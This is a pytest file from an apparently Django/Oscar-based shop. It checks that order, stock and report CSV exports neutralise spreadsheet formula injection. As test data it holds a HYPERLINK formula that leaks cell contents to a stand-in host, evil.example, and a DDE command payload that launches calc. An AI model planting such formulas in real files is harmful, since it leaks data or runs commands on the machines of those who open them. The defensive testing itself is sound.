"""No CSV the shop writes carries a cell a spreadsheet would run (issue 20: a guest named
=HYPERLINK(…) in the office's order export; a product name in a producer's stock export)."""
from __future__ import annotations

import csv
import io
import pathlib
import re

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from oscar.core.loading import get_model

from core.csv_safe import safe_cell
from tests.catalog_ext.storefront.helpers import product
from tests.catalog_ext.storefront.test_orders import place_order

ROOT = pathlib.Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("cell", [FORMULA, "+84912345678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
                                  "=cmd|' /C calc'!A0"])
def test_a_cell_that_would_run_is_shown_as_text(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Chè Shan tuyết", "HTX Cà phê", "", 150000, -5, None])
def test_other_cells_are_left_as_they_are(cell):
    assert safe_cell(cell) == cell


def rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def signed_in(email) -> Client:
    client = Client()
    client.force_login(get_user_model().objects.get(email=email))
    return client


@pytest.mark.django_db
def test_the_offices_order_export_neutralises_a_guests_formula_name():
    order = place_order()
    address = order.shipping_address
    address.first_name, address.last_name = FORMULA, ""
    address.save()

    response = signed_in("admin@ocop.demo").post(
        "/dashboard/orders/", {"action": "download_selected_orders", "selected_order": [order.pk]})

    assert response.status_code == 200
    cells = [cell for row in rows(response) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), cells
    assert not any(cell.startswith("=") for cell in cells)


@pytest.mark.django_db
def test_a_producers_stock_export_neutralises_a_formula_title():
    tea = product("CF-001")
    Product = get_model("catalogue", "Product")
    Product.objects.filter(pk=tea.pk).update(title=FORMULA)
    producer_email = get_user_model().objects.filter(partners=tea.producer).values_list("email", flat=True).first()

    response = signed_in(producer_email).get("/dashboard/producer/stock/export.csv")

    assert response.status_code == 200
    cells = [cell for row in rows(response) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)


@pytest.mark.django_db
def test_oscars_report_csvs_neutralise_formulas():
    order = place_order()
    get_model("order", "Order").objects.filter(pk=order.pk).update(guest_email="=1+1@example.vn")
    response = signed_in("admin@ocop.demo").get("/dashboard/reports/", {
        "report_type": "order_report", "download": "true"})
    assert response.status_code == 200
    cells = [cell for row in rows(response) for cell in row]
    assert not any(cell.startswith("=") for cell in cells), cells


def test_no_code_of_ours_writes_csv_around_the_helper():
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|(?<!Safe)UnicodeCSVWriter\(")
    offenders = [f"{p.relative_to(ROOT)}:{n}" for p in ROOT.glob("*/**/*.py")
                 if not {".venv", "tests", "bench"} & set(p.parts) and p.name != "csv_safe.py"
                 for n, line in enumerate(p.read_text().splitlines(), 1) if pattern.search(line)]
    assert offenders == []
